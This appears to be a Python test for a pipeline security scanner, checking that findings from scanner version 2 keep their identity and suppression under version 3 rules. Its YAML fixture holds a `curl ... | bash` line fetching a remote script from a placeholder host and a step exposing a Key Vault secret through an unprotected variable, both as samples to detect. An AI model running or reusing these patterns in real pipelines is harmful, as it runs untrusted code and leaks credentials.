"""Findings stored by pipelines scanner 2 continue on scanner 3, on the real database: a secret set without
issecret, reported as ADO-PIPE-13 until version 3, continues as ADO-PIPE-17 with its status and suppression; a
`curl | bash` finding stays ADO-PIPE-13 with the same fingerprint."""

from datetime import timedelta

from sqlmodel import select

from core.accounts.service import create_account
from core.db import session_scope
from core.db.columns import utcnow
from core.discovery.models import AzureRepository
from core.findings import service as findings_service
from core.findings.lifecycle import record_results
from core.findings.models import Finding
from core.scanners.pipeline_rules import REMOTE_SCRIPT
from core.scanners.pipelines import scan_file
from core.scans.scanner import RawFinding, fingerprint
from tests.api.seed import seed_repositories

PIPELINE = """pr: none
steps:
  - script: curl -sSL https://x.example/i.sh | bash
  - bash: |
      DB_PASSWORD=$(az keyvault secret show --name db --query value -o tsv)
      echo "##vso[task.setvariable variable=dbPassword]$DB_PASSWORD"
"""


def version_2() -> list[RawFinding]:
    """What pipelines scanner 2 stored for PIPELINE: both findings under ADO-PIPE-13."""
    return [
        RawFinding(
            REMOTE_SCRIPT,
            "azure-pipelines.yml",
            3,
            identity="pipe|- script: curl -sSL https://x.example/i.sh | bash",
        ),
        RawFinding(REMOTE_SCRIPT, "azure-pipelines.yml", 6, identity="setvariable:dbPassword"),
    ]


async def record(db, account_id, repo_id, raws, now):
    async with session_scope(db) as session:
        return await record_results(
            session,
            account_id=account_id,
            repository_id=repo_id,
            run_id="r",
            commit="c",
            results={"pipelines": raws},
            now=now,
        )


async def test_version_2_findings_continue_under_their_version_3_rules(db):
    async with session_scope(db) as session:
        account = await create_account(session, "Acme")
    await seed_repositories(db, account.id, count=1)
    async with db() as session:
        repo = (await session.exec(select(AzureRepository))).one()
    start = utcnow() - timedelta(days=2)
    await record(db, account.id, repo.id, version_2(), start)
    async with db() as session:
        stored = {f.rule_id + "|" + str(f.line): f for f in (await session.exec(select(Finding))).all()}
    setvariable = stored["ADO-PIPE-13|6"]
    async with session_scope(db) as session:
        await findings_service.suppress(
            session, account.id, "alice", setvariable.id, "read from Key Vault", None
        )

    outcome = await record(db, account.id, repo.id, scan_file("azure-pipelines.yml", PIPELINE), utcnow())
    assert (outcome.new, outcome.fixed, outcome.reopened) == (0, 0, 0)
    async with db() as session:
        rows = {f.id: f for f in (await session.exec(select(Finding))).all()}
    assert len(rows) == 2
    moved = rows[setvariable.id]
    assert (moved.rule_id, moved.status, moved.suppressed_reason) == (
        "ADO-PIPE-17",
        "SUPPRESSED",
        "read from Key Vault",
    )
    assert moved.fingerprint == fingerprint("ADO-PIPE-17", "azure-pipelines.yml", "setvariable:dbPassword")
    assert moved.first_seen_at == setvariable.first_seen_at
    pipe = rows[stored["ADO-PIPE-13|3"].id]
    assert (pipe.rule_id, pipe.status, pipe.fingerprint) == (
        "ADO-PIPE-13",
        "OPEN",
        stored["ADO-PIPE-13|3"].fingerprint,
    )
